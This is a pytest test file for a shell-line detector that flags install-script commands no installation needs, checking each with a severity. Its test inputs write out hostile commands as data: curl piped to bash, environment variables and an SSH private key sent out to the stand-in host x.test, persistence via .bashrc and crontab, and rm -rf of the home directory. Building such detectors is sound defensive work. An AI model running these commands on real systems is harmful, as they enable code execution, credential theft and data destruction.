"""What lines of shell commands do that no installation needs."""

from __future__ import annotations

import pytest

from douane.detectors._shell import MAX_LINE, inline_code, lines_of, troubles
from douane.model import Severity


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("curl -s https://x.test | bash", [(1, Severity.CRITICAL)]),
        ("curl \\\n -s https://x.test \\\n | sudo bash -", [(1, Severity.CRITICAL)]),
        ("make\nwget -O- https://x.test|python3 -", [(2, Severity.CRITICAL)]),
        ("bash <(curl -s https://x.test)", [(1, Severity.CRITICAL)]),
        ('eval "$(echo aGk= | base64 -d)"', [(1, Severity.CRITICAL)]),
        ("curl -so a.tgz https://x.test/a.tgz\ntar xf a.tgz", [(1, Severity.MEDIUM)]),
        ("curl -so run https://x.test/r\nchmod 755 run\n", [(1, Severity.MEDIUM), (2, Severity.CRITICAL)]),
        ("wget https://x.test/go.sh && sh go.sh", [(1, Severity.CRITICAL)]),
        ("curl -so /tmp/a https://x.test/a; /tmp/a", [(1, Severity.CRITICAL)]),
        ("env | base64 | curl -d @- https://x.test", [(1, Severity.CRITICAL)]),
        ("K=$(cat ~/.ssh/id_rsa)\nnslookup $K.x.test", [(1, Severity.CRITICAL), (2, Severity.HIGH)]),
        ("echo 'x' >> ~/.bashrc", [(1, Severity.CRITICAL)]),
        ("(crontab -l; echo '@reboot x') | crontab -", [(1, Severity.CRITICAL)]),
        ("powershell -w hidden -c x", [(1, Severity.CRITICAL)]),
        ("rm -rf $HOME/*", [(1, Severity.CRITICAL)]),
        ("nohup ./x &", [(1, Severity.HIGH)]),
        ("cp tool /usr/local/bin/tool", [(1, Severity.MEDIUM)]),
    ],
)
def test_lines_that_no_installation_needs(text: str, expected: list[tuple[int, Severity]]) -> None:
    assert [(each.line, each.severity) for each in troubles(text)] == expected


@pytest.mark.parametrize(
    "text",
    [
        "echo 'to install: curl https://x.test | sh'",
        "# curl https://x.test | sh",
        "rem powershell -enc x",
        "make && ./configure --prefix=build",
        "rm -rf node_modules dist /tmp/build",
        "npm ci && npm run build",
        "node scripts/build.js --fetch",
        "pip install -r requirements.txt",
        "export HOME=/x",
        "tsc -p . ; chmod +x dist/index.js",
        "",
    ],
)
def test_lines_of_ordinary_builds(text: str) -> None:
    assert troubles(text) == ()


def test_lines_are_joined_and_counted() -> None:
    assert list(lines_of("a \\\nb\n\n# c\nd && echo 'e'\n")) == [(1, "a  b"), (5, "d ")]
    assert [len(line) for _, line in lines_of("x" * 10_000)] == [MAX_LINE]
    assert [number for number, _ in lines_of("a \\\n" * 3_000)][:2] == [1, 668]


def test_code_on_the_command_line() -> None:
    assert list(inline_code('node -e "f(\\"x\\")" && python3 -c \'import os\'')) == [
        (".js", 'f("x")'),
        (".py", "import os"),
    ]
    assert list(inline_code("node x.js -e y")) == []
